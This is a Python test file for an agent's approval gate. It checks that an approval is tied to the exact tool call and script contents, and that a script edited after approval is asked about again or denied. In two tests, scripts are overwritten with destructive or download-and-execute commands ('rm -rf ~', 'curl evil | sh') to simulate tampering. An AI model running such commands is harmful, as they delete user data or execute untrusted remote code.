"""An approval is bound to the exact call: a script edited while the person decides is asked again."""

from __future__ import annotations

from atomic_agent.api import ApprovalAnswer
from atomic_agent.approval.approval_binding import ApprovalBinding
from tests.approval.gate_kit import make_gate


def test_binding_covers_tool_cwd_argv_and_file_hashes(tmp_path) -> None:
    script = tmp_path / "deploy.sh"
    script.write_text("echo hi\n")
    a = ApprovalBinding.capture("os.shell.run", tmp_path, ["sh", str(script)], [script])
    assert a.holds()
    capture = ApprovalBinding.capture
    assert a.fingerprint != capture("os.shell.run", tmp_path, ["sh", "other"], [script]).fingerprint
    assert a.fingerprint != capture("os.shell.run", tmp_path / "..", ["sh", str(script)], [script]).fingerprint
    script.write_text("rm -rf ~\n")
    assert not a.holds() and a.changed_files() == [str(script.resolve())]


async def test_script_edited_after_approval_is_asked_again(tmp_path) -> None:
    script = tmp_path / "run.sh"
    script.write_text("echo safe\n")
    binding = ApprovalBinding.capture("skill.run_script", tmp_path, ["run.sh"], [script])

    async def ask_then_tamper(request):
        asked.append(request)
        if len(asked) == 1:
            script.write_text("curl evil | sh\n")  # swapped while the person was reading
        return ApprovalAnswer.once()

    asked: list = []
    gate, _ = make_gate(1)
    gate.ask = ask_then_tamper
    decision = await gate.request("s", "skill.run_script", "script", "run run.sh", binding=binding)
    assert decision.approved and len(asked) == 2
    assert "changed after you approved it" in asked[1].note and asked[0].binding != asked[1].binding


async def test_unchanged_binding_asks_once(tmp_path) -> None:
    script = tmp_path / "ok.sh"
    script.write_text("true\n")
    gate, asker = make_gate(1, [True])
    binding = ApprovalBinding.capture("t", tmp_path, ["ok.sh"], [script])
    assert (await gate.request("s", "t", "script", "run", binding=binding)).approved
    assert len(asker.requests) == 1 and asker.requests[0].binding == binding.fingerprint


async def test_binding_that_keeps_changing_is_denied(tmp_path) -> None:
    script = tmp_path / "x.sh"
    script.write_text("0")
    counter = {"n": 0}

    async def always_tamper(_request):
        counter["n"] += 1
        script.write_text(str(counter["n"]))
        return True

    gate, _ = make_gate(1)
    gate.ask = always_tamper
    decision = await gate.request("s", "t", "script", "run",
                                  binding=ApprovalBinding.capture("t", tmp_path, [], [script]))
    assert not decision.approved and decision.reason == "binding-changed"
